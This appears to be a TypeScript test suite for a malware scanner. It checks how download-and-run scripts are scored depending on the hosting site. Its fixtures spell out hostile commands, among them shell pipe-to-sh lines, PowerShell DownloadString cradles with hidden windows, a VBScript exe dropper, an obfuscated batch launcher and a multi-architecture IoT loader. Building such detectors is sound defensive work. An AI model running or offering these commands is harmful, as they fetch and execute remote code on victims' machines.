// A script that fetches and runs is judged alike wherever anybody may put a file; what stands on a host for its owner alone
// speaks for the script only where it fetches from nowhere else.
import assert from 'node:assert/strict'
import { test } from 'node:test'
import { analyzeFile } from '../../../src/index.ts'

const now = new Date('2026-01-01T00:00:00Z')

const scoreOf = async (fileName: string, text: string): Promise<number> =>
  (await analyzeFile(Buffer.from(text), { fileName, now })).verdict.score

const OWN = 'https://cdn.somebody-else.example/tools'
const BORROWED = [
  'https://raw.githubusercontent.com/somebody/tools/main',
  'https://github.com/somebody/tools/releases/download/v1',
  'https://raw.githubusercontent.com/nvm-sh/nvm/0f1e2d3c4b5a69788796a5b4c3d2e1f001234567',
  'https://raw.githubusercontent.com/nvm-sh/nvm/refs%2Fpull%2F1%2Fhead',
  'https://raw.githubusercontent.com/nvm-sh/nvm/main/../../../somebody/tools/main',
  'https://gitlab.com/somebody/tools/-/raw/main',
  'https://tools-1234.s3.amazonaws.com/tools',
  'https://storage.googleapis.com/tools-1234',
  'https://tools1234.blob.core.windows.net/tools',
  'https://cdn.jsdelivr.net/gh/somebody/tools',
  'https://unpkg.com/somebodys-tools',
  'https://registry.npmjs.org/somebodys-tools/-',
  'https://dev.azure.com/somebody/tools',
  'https://downloads.sourceforge.net/somebody',
  'https://download.opensuse.org/repositories/home:/somebody',
] as const

const SCRIPTS: Readonly<Record<string, (from: string) => string>> = {
  'setup.sh': (from) => `#!/bin/sh\ncurl -fsSL ${from}/x.sh | sh\n`,
  'cradle.ps1': (from) => `iex ((New-Object System.Net.WebClient).DownloadString('${from}/x.ps1'))\n`,
  'hidden.bat': (from) =>
    `@echo off\r\npowershell -w hidden -c "IEX(New-Object Net.WebClient).DownloadString('${from}/x.ps1')"\r\n`,
  'dropper.vbs': (from) =>
    `Set h = CreateObject("MSXML2.XMLHTTP")\r\nh.Open "GET", "${from}/x.exe", False\r\nh.Send\r\nSet s = CreateObject("ADODB.Stream")\r\ns.Type = 1\r\ns.Open\r\ns.Write h.responseBody\r\ns.SaveToFile "C:\\Users\\Public\\x.exe", 2\r\nCreateObject("WScript.Shell").Run "C:\\Users\\Public\\x.exe", 0\r\n`,
  'stage.py': (from) => `import urllib.request\nexec(urllib.request.urlopen("${from}/x.py").read())\n`,
}

for (const [name, write] of Object.entries(SCRIPTS)) {
  test(`${name} scores alike from every host that anybody can upload to`, async () => {
    const own = await scoreOf(name, write(OWN))
    for (const from of BORROWED) assert.ok((await scoreOf(name, write(from))) >= own, from)
  })
}

test('a line for show in front, from a known project, takes nothing off what follows', async () => {
  const cradle = (url: string): string => `iex ((New-Object System.Net.WebClient).DownloadString('${url}'))\n`
  const hidden = cradle(`${OWN}/x.ps1`)
  const shown = cradle('https://community.chocolatey.org/install.ps1')
  const between = "Write-Host 'Installing the tools of the company, please wait a moment'\n".repeat(8)
  assert.ok((await scoreOf('a.ps1', `${shown}${between}${hidden}`)) >= (await scoreOf('a.ps1', hidden)))
})

test('an installer from where only its project puts anything weighs little', async () => {
  for (const from of ['https://get.docker.com', 'https://raw.githubusercontent.com/nvm-sh/nvm/v0.39.7/install.sh'])
    assert.ok(
      (await scoreOf('setup.sh', `#!/bin/sh\ncurl -fsSL ${from} | sh\n`)) <
        (await scoreOf('setup.sh', `#!/bin/sh\ncurl -fsSL ${OWN}/x.sh | sh\n`)),
      from,
    )
})

/** What a stranger puts below the name of a known owner: attachments, pull requests, wikis, commits that were only proposed. */
const STRANGERS = [
  'https://github.com/microsoft/vcpkg/files/14125503/x.sh',
  'https://github.com/microsoft/vcpkg/assets/1/x.sh',
  'https://github.com/nvm-sh/nvm/raw/refs/pull/31/head/x.sh',
  'https://raw.githubusercontent.com/nvm-sh/nvm/refs/pull/31/head/x.sh',
  'https://raw.githubusercontent.com/wiki/nvm-sh/nvm/x.sh',
  'https://gitlab.com/gitlab-org/gitlab/uploads/0f1e2d3c4b5a69788796a5b4c3d2e1f0/x.sh',
] as const
/** What installers do not do: they talk to whoever started them, wait, and ask for a certificate. */
const UNSEEN: Readonly<Record<string, (url: string) => string>> = {
  'what it prints is thrown away': (url) => `curl -fsSL ${url} | sh >/dev/null 2>&1`,
  'it goes on by itself': (url) => `wget -qO- ${url} | bash &`,
  'it outlives its terminal': (url) => `nohup bash -c "curl -fsSL ${url} | sh"`,
  'no certificate is asked for': (url) => `curl -ksL ${url} | sh`,
}

for (const [what, write] of Object.entries(UNSEEN))
  test(`a download that is piped into a shell is suspicious from every code host where ${what}`, async () => {
    for (const url of [...BORROWED.map((from) => `${from}/x.sh`), ...STRANGERS]) {
      const { verdict } = await analyzeFile(Buffer.from(`#!/bin/sh\n${write(url)}\n`), { fileName: 'setup.sh', now })
      assert.equal(verdict.label, 'suspicious', url)
    }
  })

test('what strangers put below a known owner speaks for nobody', async () => {
  const own = await scoreOf('setup.sh', `#!/bin/sh\ncurl -fsSL ${OWN}/x.sh | sh\n`)
  for (const url of STRANGERS) assert.ok((await scoreOf('setup.sh', `#!/bin/sh\ncurl -fsSL ${url} | sh\n`)) >= own, url)
})

test('installers as their projects write them are clean', async () => {
  for (const line of [
    "curl --proto '=https' --tlsv1.2 -sSf https://sh.rustup.rs | sh -s -- -y",
    'curl -o- https://raw.githubusercontent.com/nvm-sh/nvm/v0.39.7/install.sh | bash',
    '/bin/bash -c "$(curl -fsSL https://raw.githubusercontent.com/Homebrew/install/HEAD/install.sh)"',
    'sh -c "$(curl -fsSL https://raw.githubusercontent.com/ohmyzsh/ohmyzsh/master/tools/install.sh)"',
    'curl -fsSL https://deb.nodesource.com/setup_22.x | sudo -E bash - >/dev/null 2>&1',
    'curl -sSL https://raw.githubusercontent.com/somebody/tool/main/install.sh | bash -s -- -b /usr/local/bin',
    'curl -L https://install.somebody.example | sh && echo installed',
    'curl -sL https://install.somebody.example | bash > install.log 2>&1',
  ]) {
    const { verdict } = await analyzeFile(Buffer.from(`#!/bin/sh\n${line}\n`), { fileName: 'setup.sh', now })
    assert.equal(verdict.label, 'clean', line)
  }
})

/** What installers of known projects and scripts of the own network share with attacks: by name, the finding that tells it. */
const SHARED: Readonly<Record<string, readonly [finding: string, text: string]>> = {
  'install.bat': [
    'script_drops_fetched_program',
    'bitsadmin /transfer p https://www.python.org/p.exe %TEMP%\\p.exe\n%TEMP%\\p.exe /quiet',
  ],
  'interface.ps1': [
    'script_runs_decoded_answer',
    '$a = Invoke-RestMethod "https://www.python.org/tools/install.json"\n$t = [Text.Encoding]::UTF8.GetString([Convert]::FromBase64String($a.content))\nInvoke-Expression $t',
  ],
  'logon.vbs': [
    'script_runs_answer',
    'Set h = CreateObject("MSXML2.XMLHTTP")\nh.Open "GET", "http://intranet/parts.vbs", False\nh.Send\nExecute h.responseText',
  ],
  'main.go': [
    'source_runs_fetched_code',
    'package main\n\nimport "os/exec"\n\nfunc main() {\n\texec.Command("sh", "-c", "curl --proto =https -sSf https://sh.rustup.rs | sh").Run()\n}\n',
  ],
}

for (const [name, [finding, text]] of Object.entries(SHARED)) {
  test(`${name} is told and flagged by nothing, since its host is known`, async () => {
    const { root, verdict } = await analyzeFile(Buffer.from(text), { fileName: name, now })
    const ids = root.findings.map(({ id }) => id)
    assert.ok(ids.includes(finding), ids.join(', '))
    assert.equal(verdict.label, 'clean', `${verdict.score}: ${verdict.reasons.map(({ id }) => id).join(', ')}`)
  })
}

/** Where the address is hidden, or what is done is hidden, the host in sight says nothing. */
const SHOWN = 'https://get.docker.com'
const CONCEALED: Readonly<Record<string, string>> = {
  'hidden.bat': `powershell -w hidden -c "IEX(New-Object Net.WebClient).DownloadString('${SHOWN}/x')"`,
  'macro-words.bat': `set a=power\nset b=shell\n%a%%b% -c "iwr ${SHOWN}/a.exe -OutFile a.exe; saps a.exe"`,
  'assembly.ps1': `$b = [Convert]::FromBase64String((New-Object Net.WebClient).DownloadString("${SHOWN}/a"))\n[Reflection.Assembly]::Load($b)`,
  'loader.sh': `# ${SHOWN}\ncd /tmp || cd /var/run || cd /mnt\nwget ${SHOWN}/.b.mips -O /tmp/.b; chmod +x /tmp/.b; /tmp/.b\nwget ${SHOWN}/.b.arm7 -O /tmp/.b; chmod +x /tmp/.b; /tmp/.b`,
}

for (const [name, text] of Object.entries(CONCEALED)) {
  test(`${name} is judged alike from a known host and from a stranger's`, async () => {
    const labelOf = async (from: string): Promise<string> =>
      (await analyzeFile(Buffer.from(text.replaceAll(SHOWN, from)), { fileName: name, now })).verdict.label
    assert.equal(await labelOf(OWN), 'malicious')
    assert.equal(await labelOf(SHOWN), 'malicious')
  })
}
